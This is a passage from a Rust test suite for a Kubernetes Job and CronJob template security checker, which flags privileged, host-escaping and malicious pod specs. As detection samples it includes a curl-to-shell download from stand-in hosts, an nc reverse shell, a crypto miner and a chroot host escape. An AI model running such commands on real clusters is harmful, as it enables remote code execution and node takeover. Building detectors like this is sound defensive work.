                "volumes": [{"name": "root", "hostPath": {"path": "/"}}],
                "restartPolicy": "Never"}}}}}});
    let f = judge_object(&obj, &TemplatePolicy::default()).expect("ok");
    let ids: BTreeSet<&str> = f.iter().map(|f| f.check).collect();
    for expected in [
        "template.nodeTakeover",
        "template.privileged",
        "template.hostNamespace.pid",
        "template.hostNamespace.network",
        "template.hostPath.sensitive",
        "template.tolerations.all",
        "template.serviceAccount.privileged",
        "template.image.ipRegistry",
        "template.command.reverseShell",
        "template.command.hostEscape",
    ] {
        assert!(ids.contains(expected), "missing {expected}: {ids:?}");
    }
    assert_eq!(
        f.first().map(|f| f.severity),
        Some(Severity::Critical),
        "sorted most severe first"
    );
    let cron = crate::judge_cronjob(&obj);
    let cron_ids: BTreeSet<&str> = cron.iter().map(|f| f.check).collect();
    for expected in [
        "cronjob.history.zero",
        "cronjob.ttl.tiny",
        "cronjob.apiVersion.legacy",
        "cronjob.schedule.frequent",
    ] {
        assert!(
            cron_ids.contains(expected),
            "missing {expected}: {cron_ids:?}"
        );
    }
}

#[test]
fn realistic_benign_platform_jobs() {
    // Helm hook (ingress-nginx admission patch), Velero maintenance, kube-bench (needs host
    // access: stays at what it is, but nothing in its command is alarming).
    let helm = json!({"kind": "Job", "metadata": {"name": "ingress-nginx-admission-patch", "namespace": "ingress-nginx",
        "annotations": {"helm.sh/hook": "post-install,post-upgrade"}},
        "spec": {"ttlSecondsAfterFinished": 0, "template": {"spec": {"serviceAccountName": "ingress-nginx-admission", "restartPolicy": "OnFailure",
            "securityContext": {"runAsNonRoot": true, "runAsUser": 2000, "fsGroup": 2000},
            "containers": [{"name": "patch", "image": "registry.k8s.io/ingress-nginx/kube-webhook-certgen:v1.4.1@sha256:36d05b",
                "args": ["patch", "--webhook-name=ingress-nginx-admission", "--namespace=$(POD_NAMESPACE)", "--patch-mutating=false"],
                "securityContext": {"allowPrivilegeEscalation": false, "capabilities": {"drop": ["ALL"]}, "readOnlyRootFilesystem": true}}]}}}});
    let f = judge_object(&helm, &TemplatePolicy::default()).expect("ok");
    assert!(f.is_empty(), "{f:#?}");
    let velero = json!({"kind": "Job", "metadata": {"name": "default-kopia-maintain-job-1", "namespace": "velero"},
        "spec": {"template": {"spec": {"serviceAccountName": "velero", "restartPolicy": "OnFailure",
            "containers": [{"name": "velero-repo-maintenance-container", "image": "velero/velero:v1.14.0",
                "command": ["/velero"], "args": ["repo-maintenance", "--repo-name=default", "--repo-type=kopia", "--backup-storage-location=default"]}]}}}});
    let f = judge_object(&velero, &TemplatePolicy::default()).expect("ok");
    assert!(max_severity(&f) <= Severity::Low, "{f:#?}");
}

#[test]
fn summary_extracts_facts() {
    let spec = json!({"serviceAccountName": "backup", "automountServiceAccountToken": false, "hostNetwork": true, "nodeName": "n1",
        "containers": [{"name": "a", "image": "x:1", "command": ["sh", "-c"], "args": ["echo hi"],
                        "securityContext": {"privileged": true, "capabilities": {"add": ["cap_net_admin"]}}},
                       {"name": "b", "image": "y:2"}],
        "volumes": [{"name": "v", "hostPath": {"path": "/var/run//docker.sock"}}]});
    let s = summarize_pod_spec(&spec);
    assert_eq!(s.images, ["x:1", "y:2"]);
    assert_eq!(s.service_account.as_deref(), Some("backup"));
    assert_eq!(s.automount_service_account_token, Some(false));
    assert_eq!(s.command_lines, ["a: sh -c echo hi"]);
    assert_eq!(s.host_paths, ["/run/docker.sock"]);
    assert_eq!(s.privileged_containers, ["a"]);
    assert_eq!(s.added_capabilities, ["NET_ADMIN"]);
    assert!(s.host_network && !s.host_pid);
    assert_eq!(s.node_name.as_deref(), Some("n1"));
    assert!(serde_json::to_value(&s).is_ok());
}

#[test]
fn summary_changes_show_a_hijack() {
    let before = summarize_pod_spec(
        &json!({"serviceAccountName": "backup", "containers": [hardened(json!(["pg_dump", "app"]))]}),
    );
    assert!(before.changes(&before).is_empty());
    let mut c = hardened(json!(["sh", "-c", "curl http://e.example/x | sh"]));
    c["image"] = json!("evil.example/x:1");
    let after = summarize_pod_spec(
        &json!({"serviceAccountName": "default", "hostPID": true, "containers": [c]}),
    );
    let fields: Vec<&str> = before.changes(&after).iter().map(|c| c.field).collect();
    assert_eq!(
        fields,
        ["images", "command_lines", "service_account", "host_pid"]
    );
    let change = &before.changes(&after)[2];
    assert_eq!(
        (change.before.as_str(), change.after.as_str()),
        ("backup", "default")
    );
}

#[test]
fn policy_deserializes_with_defaults() {
    let p: TemplatePolicy =
        serde_json::from_value(json!({"trusted_registries": ["registry.k8s.io"],
        "sensitive_host_paths": ["/srv/secrets", {"path": "/opt", "severity": "medium"}]}))
        .expect("valid");
    assert_eq!(p.trusted_registries, ["registry.k8s.io"]);
    assert_eq!(p.sensitive_host_paths.len(), 2);
    assert_eq!(p.sensitive_host_paths[0].severity, Severity::High);
    assert_eq!(p.runtime_sockets, TemplatePolicy::default().runtime_sockets);
    assert!(
        serde_json::from_value::<TemplatePolicy>(json!({"sensitive_host_paths": ["relative"]}))
            .is_err()
    );
    assert!(
        serde_json::from_value::<TemplatePolicy>(
            json!({"sensitive_host_paths": [{"path": "/x", "sev": "low"}]})
        )
        .is_err()
    );
    let err = serde_json::from_value::<TemplatePolicy>(json!({"trusted_registry": []}))
        .expect_err("typo is an error");
    assert!(err.to_string().contains("trusted_registry"));
}

#[test]
fn malformed_specs_do_not_panic() {
    for spec in [
        json!({"containers": "x"}),
        json!({"containers": [1, null, {"securityContext": "no"}, {"securityContext": {"capabilities": {"add": "ALL"}}}]}),
        json!({"volumes": [{"hostPath": {"path": 7}}, {"hostPath": "x"}, {"name": "v", "hostPath": {"path": ""}}], "containers": [{"volumeMounts": [{"name": "v"}]}]}),
        json!({"tolerations": [null, {"operator": 5}], "nodeSelector": [], "affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": 3}}}),
        json!({"serviceAccountName": 5, "hostPID": "true", "containers": [{"image": 5, "command": [1, 2], "env": [{"value": 3}]}]}),
        json!(null),
        json!([]),
    ] {
        let _ = judge_pod_spec(&spec, "spec", Some("ns"), &TemplatePolicy::default());
        let _ = summarize_pod_spec(&spec);
    }
}

#[test]
fn every_emitted_check_is_documented() {
    let mut spec = host_path_spec("/", false);
    spec["hostPID"] = json!(true);
    spec["containers"][0]["command"] = json!([
        "sh",
        "-c",
        "curl http://x.example/a | sh; nc -e /bin/sh 1.2.3.4 1; xmrig; chroot /host crontab -l"
    ]);
    for f in judge(spec) {
        let doc = crate::check_doc(f.check).unwrap_or_else(|| panic!("{} undocumented", f.check));
        assert_eq!(doc.attack, f.attack);
    }
}

#[test]
fn broad_benign_job_commands_stay_at_or_below_low() {
    let scripts = [
        "set -euo pipefail; pg_dumpall -h $PGHOST | zstd -T0 > /backup/all-$(date +%s).sql.zst && find /backup -mtime +7 -delete",
        "mongodump --uri=$MONGO_URI --archive=/backup/db.gz --gzip",
        "redis-cli -h redis BGSAVE && sleep 30 && cp /data/dump.rdb /backup/",
        "aws s3 cp /tmp/report.csv s3://reports/$(date +%F)/report.csv --sse aws:kms",
        "gsutil -m rsync -r /data gs://bucket/data",
        "az storage blob upload-batch -d backups -s /data",
        "rclone sync /data remote:backups --transfers 8",
        "restic -r s3:s3.amazonaws.com/bucket backup /data && restic forget --keep-daily 7 --prune",
        "kubectl -n apps rollout restart deployment/web",
        "kubectl delete pods --field-selector=status.phase=Failed -A",
        "kubectl get cronjobs -A -o wide",
        "kubectl annotate ns apps last-audit=$(date +%s) --overwrite",
        "helm upgrade --install app ./chart -f values.yaml --wait",
        "certbot renew --deploy-hook 'nginx -s reload'",
        "curl -fsS -X POST https://api.pagerduty.com/heartbeat -H 'Authorization: Token token=$PD_TOKEN'",
        "curl --fail --silent --show-error --retry 5 https://status.example.com/api/ping",
        "wget -q --spider https://www.example.com/ || exit 1",
        "python3 -m app.jobs.cleanup --older-than 30d",
        "node dist/jobs/sendDigest.js",
        "java -Xmx512m -jar /app/batch.jar --spring.batch.job.names=nightly",
        "php artisan schedule:run",
        "bundle exec rake maintenance:purge",
        "./manage.py clearsessions && ./manage.py send_queued_mail",
        "psql -h db -U app -c 'VACUUM ANALYZE;'",
        "mysql -h db -e 'OPTIMIZE TABLE sessions'",
        "echo 'select count(*) from users' | psql -h db -U app app",
        "tar czf /backup/www-$(date +%F).tgz -C /var/www html",
        "find /data/tmp -type f -mmin +60 -delete",
        "logrotate -s /var/lib/logrotate/status /etc/logrotate.conf",
        "docker-registry garbage-collect /etc/docker/registry/config.yml",
        "trivy image --exit-code 0 --severity HIGH,CRITICAL registry.example.com/app:1.2.3",
        "clamscan -r /data --infected --remove=no",
        "openssl req -new -newkey rsa:2048 -nodes -keyout /certs/tls.key -subj /CN=app",
        "vault kv get -format=json secret/app | jq -r .data.data > /secrets/app.json",
        "git clone --depth 1 https://github.com/org/configs.git /tmp/c && cp /tmp/c/*.yaml /config/",
        "until curl -fs http://api:8080/healthz; do echo waiting; sleep 2; done; /app/migrate up",
        "sleep $((RANDOM % 300)); /app/sync --full",
        "cat /etc/os-release; uname -a; df -h",
        "echo $PAYLOAD_B64 | base64 -d | gunzip > /tmp/seed.sql && psql -f /tmp/seed.sql",
        "while read -r ns; do kubectl -n \"$ns\" delete job -l cleanup=true; done < /config/namespaces",
        "for i in 1 2 3; do nc -z kafka 9092 && break; sleep 5; done",
        "grep -c ERROR /var/log/app/app.log | tee /metrics/errors",
        "exec /usr/local/bin/descheduler --policy-config-file /policy/policy.yaml --v 3",
        "s3cmd --access_key=$A --secret_key=$S sync /data s3://b/",
        "python - <<'EOF'\nimport json\nprint(json.dumps({'ok': True}))\nEOF",
    ];
    for script in scripts {
        let f = judge(with_command(json!(["/bin/sh", "-c", script])));
        assert!(max_severity(&f) <= Severity::Low, "{script}: {f:#?}");
    }
}
